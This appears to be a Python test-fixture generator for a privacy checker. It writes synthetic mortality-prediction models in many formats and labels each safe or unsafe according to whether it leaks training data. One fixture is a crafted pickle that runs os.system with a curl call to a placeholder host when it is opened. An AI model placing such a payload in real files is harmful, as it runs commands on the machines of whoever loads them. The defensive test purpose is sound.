"""Models that may leave (coefficients, large leaves) and models that hold the persons they were trained on."""

import json
import pickle
import random
import re
import warnings
import zipfile
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import onnx
import skops.io
from onnx import numpy_helper
from skl2onnx import convert_sklearn
from skl2onnx.common.data_types import FloatTensorType
from sklearn.ensemble import RandomForestClassifier
from sklearn.gaussian_process import GaussianProcessRegressor
from sklearn.isotonic import IsotonicRegression
from sklearn.linear_model import LogisticRegression, Ridge
from sklearn.neighbors import KernelDensity, KNeighborsClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import MinMaxScaler, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier, export_text

from tests.airlock.outputs import people
from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs.ooxml import EPOCH

NAMES = ["age", "creatinine", "lactate", "charlson"]


def training(rng: random.Random, count: int) -> tuple[np.ndarray, np.ndarray]:
    """Rows of four values a person (count x 4), and whether they died."""
    noise = np.random.default_rng(rng.randrange(2**32))
    ages, creatinine = noise.integers(19, 90, count), noise.lognormal(4.4, 0.35, count).round(1)
    values = np.column_stack([ages, creatinine, noise.gamma(2, 0.9, count).round(1), noise.poisson(2, count)])
    died = (noise.random(count) < 1 / (1 + np.exp(5 - 0.04 * ages - 0.3 * values[:, 2]))).astype(int)
    died[:3], died[3:6] = 1, 0
    return values, died


def save_skops(model: Any, path: Path) -> None:
    """skops names parts by address in memory: they are numbered here in the order met, and times set."""
    skops.io.dump(model, path)
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    schema = parts["schema.json"].decode()
    numbers: dict[str, str] = {}
    for found in re.findall(r'"__id__": (\d+)|"(\d{6,})\.np[yz]"', schema):
        number = found[0] or found[1]
        numbers.setdefault(number, f"{len(numbers) + 1}")

    def renamed(words: str) -> str:
        return re.sub(r"\d{6,}", lambda m: numbers.get(m[0], m[0]), words)

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            written = renamed(data.decode()).encode() if name == "schema.json" else data
            new.writestr(zipfile.ZipInfo(renamed(name), EPOCH), written, zipfile.ZIP_DEFLATED)


def save_onnx(model: Any, path: Path) -> None:
    made = convert_sklearn(
        model, "model", [("x", FloatTensorType([None, 4]))], target_opset=17, options={"zipmap": False}
    )
    path.write_bytes(made.SerializeToString(deterministic=True))


def _save(model: Any, path: Path) -> None:
    if path.suffix == ".skops":
        save_skops(model, path)
    elif path.suffix == ".joblib":
        joblib.dump(model, path)
    elif path.suffix == ".onnx":
        save_onnx(model, path)
    else:
        path.write_bytes(pickle.dumps(model))


def write(shelf: Shelf) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", FutureWarning)  # skl2onnx asks for what scikit-learn is about to drop
        _write(shelf)


def _write(shelf: Shelf) -> None:
    x, y = training(shelf.random("models/large"), 3000)
    safe = (
        ("logistique.skops", LogisticRegression(max_iter=2000), "coefficients"),
        ("ridge.skops", Ridge(), "coefficients"),
        ("chaine.skops", make_pipeline(StandardScaler(), LogisticRegression()), "means, variances and coefficients"),
        (
            "arbre.skops",
            DecisionTreeClassifier(max_depth=3, min_samples_leaf=100, random_state=1),
            "leaves of 100 or more",
        ),
        ("logistique.joblib", LogisticRegression(max_iter=2000), "coefficients"),
        ("logistique.onnx", LogisticRegression(max_iter=2000), "coefficients"),
    )
    for file, model, tempts in safe:
        path = shelf.safe(f"modeles/{file}", tempts, "Modèle de mortalité", "3000 séjours")
        _save(model.fit(x, y), path)
    x, y = training(shelf.random("models/small"), 160)
    unsafe = (
        ("voisins.joblib", KNeighborsClassifier(), "training rows in the model", "_fit_X"),
        ("voisins.skops", KNeighborsClassifier(), "training rows in the model", "_fit_X"),
        ("svm.skops", SVC(random_state=1), "training rows in the model", "support_vectors_"),
        ("svm.pkl", SVC(random_state=1), "training rows in the model", "support_vectors_"),
        ("processus.joblib", GaussianProcessRegressor(random_state=1), "training rows in the model", "X_train_"),
        ("arbre.pkl", DecisionTreeClassifier(random_state=1), "leaves of one to three persons", "tree_.n_node_samples"),
        ("arbre_b.skops", DecisionTreeClassifier(min_samples_leaf=3, random_state=1), "leaves of one to three persons", "tree_"),
        ("foret.joblib", RandomForestClassifier(8, random_state=1), "leaves of one to three persons", "estimators_[*].tree_"),
        ("foret_oob.joblib", RandomForestClassifier(40, min_samples_leaf=20, oob_score=True, random_state=1), "scores of single persons",
         "oob_decision_function_"),
        ("chaine.joblib", make_pipeline(MinMaxScaler(), LogisticRegression()), "minimum and maximum", "minmaxscaler data_min_, data_max_"),
        ("svm.onnx", SVC(random_state=1), "training rows in the model", "attribute support_vectors"),
    )  # fmt: skip
    for file, model, way, where in unsafe:
        path = shelf.unsafe(f"modeles/{file}", way, where, "Modèle de mortalité", "160 patients")
        _save(model.fit(x, y), path)
    _others(shelf, x, y)
    _dumps(shelf, x, y)


def _others(shelf: Shelf, x: np.ndarray, y: np.ndarray) -> None:
    rng = shelf.random("models/others")
    path = shelf.unsafe(
        "modeles/calibration.joblib",
        "scores of single persons, extremes",
        "X_thresholds_, X_min_",
        "Calibration",
        "160 patients",
    )
    joblib.dump(IsotonicRegression(out_of_bounds="clip").fit(x[:, 0], y), path)

    path = shelf.unsafe("modeles/densite.pkl", "training rows in the model", "tree_ data", "Densité", "160 patients")
    path.write_bytes(pickle.dumps(KernelDensity().fit(x)))

    model = LogisticRegression(max_iter=2000).fit(x, y)
    model.excluded_ = [people.ipp(rng) for _ in range(4)]
    path = shelf.unsafe(
        "modeles/logistique_b.joblib", "hospital numbers in an attribute", "excluded_", "Modèle", "160 patients"
    )
    joblib.dump(model, path)

    path = shelf.unsafe("modeles/charge.pkl", "code that runs at opening", "os.system", "Modèle", "160 patients")
    path.write_bytes(b"cos\nsystem\n(S'curl http://collecte.example'\ntR.")

    rows = numpy_helper.from_array(x.astype(np.float32), "reference")
    graph = onnx.helper.make_graph(
        [onnx.helper.make_node("Identity", ["x"], ["y"], name="n1")],
        "g",
        [onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [None, 4])],
        [onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [None, 4])],
        [rows],
    )
    made = onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 17)], ir_version=8)
    path = shelf.unsafe(
        "modeles/reseau.onnx", "training rows in the model", "initializer reference", "Réseau", "160 patients"
    )
    path.write_bytes(made.SerializeToString(deterministic=True))

    path = shelf.unsafe("modeles/poids.npz", "training rows beside weights", "array x_train", "Poids", "160 patients")
    np.savez(path, coef=np.array([0.04, 0.2]), x_train=x)


def _tree(rng: random.Random, depth: int, covers: list[int]) -> dict[str, Any]:
    """A boosted tree as its library writes it in JSON; `covers` are the persons of the leaves, from the left."""
    if depth == 0:
        return {"leaf": round(rng.uniform(-0.3, 0.3), 5), "cover": covers.pop(0)}
    left, right = _tree(rng, depth - 1, covers), _tree(rng, depth - 1, covers)
    split = round(rng.uniform(1, 80), 2)
    return {
        "split": rng.choice(NAMES),
        "split_condition": split,
        "cover": left["cover"] + right["cover"],
        "children": [left, right],
    }


def _dumps(shelf: Shelf, x: np.ndarray, y: np.ndarray) -> None:
    rng = shelf.random("models/dumps")
    coefficients = {name: round(rng.uniform(-1, 1), 4) for name in NAMES} | {"intercept": -4.2, "n": 3000, "C": 0.1}
    path = shelf.safe("modeles/coefficients.json", "coefficients", "Modèle logistique", "3000 séjours")
    path.write_text(json.dumps(coefficients, indent=1), encoding="utf-8")

    trees = [_tree(rng, 2, [rng.randint(60, 900) for _ in range(4)]) for _ in range(3)]
    path = shelf.safe("modeles/arbres.json", "leaves of 60 or more, depth 2", "Arbres du modèle", "3000 séjours")
    path.write_text(json.dumps(trees, indent=1), encoding="utf-8")

    trees = [_tree(rng, 3, [rng.choice((1, 2, 3, 18, 40)) for _ in range(7)] + [2]) for _ in range(3)]
    path = shelf.unsafe(
        "modeles/arbres_b.json",
        "leaves of one to three persons",
        "cover of leaves",
        "Arbres du modèle",
        "160 patients",
    )
    path.write_text(json.dumps(trees, indent=1), encoding="utf-8")

    tree = DecisionTreeClassifier(max_depth=6, random_state=1).fit(x, y)
    path = shelf.unsafe(
        "modeles/regles.txt",
        "leaves of one to three persons",
        "weights of leaves",
        "Règles de l'arbre",
        "160 patients",
    )
    path.write_text(export_text(tree, feature_names=NAMES, show_weights=True), encoding="utf-8")

    large = DecisionTreeClassifier(max_depth=2, min_samples_leaf=200, random_state=1).fit(*training(rng, 3000))
    path = shelf.safe("modeles/regles_b.txt", "rules, no counts", "Règles de l'arbre", "3000 séjours")
    path.write_text(export_text(large, feature_names=NAMES), encoding="utf-8")

    path = shelf.unsafe("modeles/boost.txt", "leaves of one to three persons", "leaf_count", "Modèle", "160 patients")
    path.write_text(
        "tree\nversion=v4\nnum_class=1\nmax_feature_idx=3\nfeature_names=age creatinine lactate charlson\n\nTree=0\nnum_leaves=5\nnum_cat=0\n"
        "split_feature=0 2 1 3\nthreshold=61.5 2.35 118.2 3.5\nleaf_value=-0.11 0.08 0.21 -0.02 0.3\nleaf_count=61 44 2 50 3\n\nend of trees\n",
        encoding="utf-8",
    )

    pmml = (
        '<?xml version="1.0"?>\n<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><TreeModel functionName="classification">'
        '<Node recordCount="160"><True/><Node score="1" recordCount="{}"><SimplePredicate field="age" operator="greaterThan" value="71"/></Node>'
        '<Node score="0" recordCount="{}"><True/></Node></Node></TreeModel></PMML>\n'
    )
    path = shelf.unsafe(
        "modeles/arbre.pmml", "leaves of one to three persons", "Node recordCount", "Arbre", "160 patients"
    )
    path.write_text(pmml.format(2, 158), encoding="utf-8")
